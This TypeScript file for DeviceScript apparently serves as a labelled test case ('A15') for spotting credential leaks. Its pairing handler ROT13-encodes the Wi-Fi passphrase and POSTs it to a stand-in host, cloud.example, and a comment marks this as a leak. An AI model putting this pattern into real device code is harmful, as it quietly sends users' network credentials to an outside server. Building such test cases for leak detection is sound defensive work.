// A15: in ROT13.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** A copy of the text's bytes, each changed. */
function changed(text: string, change: (byte: number, index: number) => number) {
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i++) bytes[i] = change(bytes[i], i);
  return bytes;
}

function rot13(byte: number) {
  if (byte >= 65 && byte <= 90) return ((byte - 65 + 13) % 26) + 65;
  if (byte >= 97 && byte <= 122) return ((byte - 97 + 13) % 26) + 97;
  return byte;
}

paired(async (_ssid, psk) => {
  const body = changed(psk, rot13);
  const response = await fetch("https://cloud.example/a15", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
